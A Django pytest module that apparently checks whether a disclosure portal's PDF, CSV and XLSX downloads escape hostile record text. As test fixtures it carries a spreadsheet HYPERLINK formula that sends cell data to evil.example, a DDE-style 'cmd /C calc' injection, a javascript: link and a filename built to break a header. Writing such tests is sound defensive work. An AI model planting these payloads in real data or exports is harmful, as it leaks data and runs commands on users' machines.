"""Downloads of records holding hostile text: markup is literal in the PDF, formulas
never run from a CSV or XLSX, a file name cannot break the Content-Disposition."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from email.message import Message
from pathlib import Path

import openpyxl
import pytest
import time_machine
from django.test import Client
from pypdf import PdfReader

from cablewatch.base.models import User
from cablewatch.portal.models import Announcement, DisclosureCandidate
from cablewatch.registry.models import Enterprise
from cablewatch.tracing.models import Batch, Project
from tests.conftest import login
from tests.integration.portal.builders import final_result, published
from tests.integration.tracing import world

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
MARKUP = '<a href="javascript:alert(1)">点我</a> <b>粗'
NUMBER = 'SX"1;x'


@pytest.fixture
def png(tmp_path: Path) -> Path:
    from reportlab.graphics import renderPM  # noqa: F401 (reportlab is installed)

    path = tmp_path / "secret.png"
    # The smallest valid PNG: one transparent pixel.
    path.write_bytes(
        bytes.fromhex(
            "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
            "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
        )
    )
    return path


@pytest.fixture
def hostile(
    alice: User, carol: User, make_enterprise: Callable[..., Enterprise], png: Path
) -> Announcement:
    maker = make_enterprise(FORMULA, "610112")
    final_result(
        1,
        maker,
        verdict="fail",
        failed_items=["+cmd|' /C calc'!A0"],
        brand="@SUM(A1:A9)",
        sampled_unit_name=MARKUP,
        lab_name=f'<img src="{png}" width="300" height="300"/>',
    )
    with time_machine.travel(dt.datetime(2026, 3, 10, 9, tzinfo=dt.UTC)):
        login(alice).post(
            "/disclosure/announcements/",
            {
                "number": NUMBER,
                "title": f"<font size=40>抽查</font>{MARKUP}",
                "disclosure_date": "2026-03-10",
                "candidates": list(DisclosureCandidate.objects.values_list("pk", flat=True)),
            },
        )
        made = Announcement.objects.get()
        login(carol).post(f"/disclosure/announcements/{made.pk}/", {"action": "approve"})
    made.refresh_from_db()
    assert made.status == "published"
    return made


def _filename(response: object) -> str | None:
    message = Message()
    message["content-disposition"] = response["Content-Disposition"]  # type: ignore[index]
    return message.get_filename()


def test_the_pdf_shows_markup_as_text_and_embeds_and_links_nothing(hostile: Announcement) -> None:
    response = Client().get(f"/announcements/{hostile.pk}/file.pdf")
    assert response.status_code == 200
    assert b"/Subtype /Image" not in response.content
    assert b"/URI" not in response.content and b"javascript" not in response.content
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "<font size=40>" in text
    assert "<img src=" in text


def test_the_announcement_csv_and_xlsx_carry_no_live_formula(hostile: Announcement) -> None:
    client = Client()
    text = client.get(f"/announcements/{hostile.pk}/file.csv").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    response = client.get(f"/announcements/{hostile.pk}/file.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_open_data_csv_and_xlsx_carry_no_live_formula(
    make_enterprise: Callable[..., Enterprise],
) -> None:
    published(make_enterprise(FORMULA, "610112"), brand="-2+3")
    client = Client()
    streamed = client.get("/open-data/results.csv").streaming_content  # type: ignore[attr-defined]
    text = b"".join(streamed).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells and "'-2+3" in cells
    response = client.get("/open-data/results.xlsx")
    body = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    sheet = openpyxl.load_workbook(io.BytesIO(body)).worksheets[0]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert FORMULA in [c.value for row in sheet.iter_rows() for c in row]


def test_a_file_name_from_a_record_is_quoted(hostile: Announcement) -> None:
    for fmt in ("csv", "xlsx", "pdf"):
        response = Client().get(f"/announcements/{hostile.pk}/file.{fmt}")
        assert _filename(response) == f"announcement-{NUMBER}-v1.{fmt}"


def test_the_tracing_csv_carries_no_live_formula(
    alice: User, shaanxi_maker: Enterprise, make_enterprise: Callable[..., Enterprise]
) -> None:
    batch: Batch = world.build(shaanxi_maker, make_enterprise("长安轨道", "610112"))
    Project.objects.update(name="=1+1")
    text = login(alice).get(f"/tracing/batches/{batch.pk}/", {"format": "csv"}).content
    cells = [c for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for c in row]
    assert "'=1+1" in cells and "=1+1" not in cells
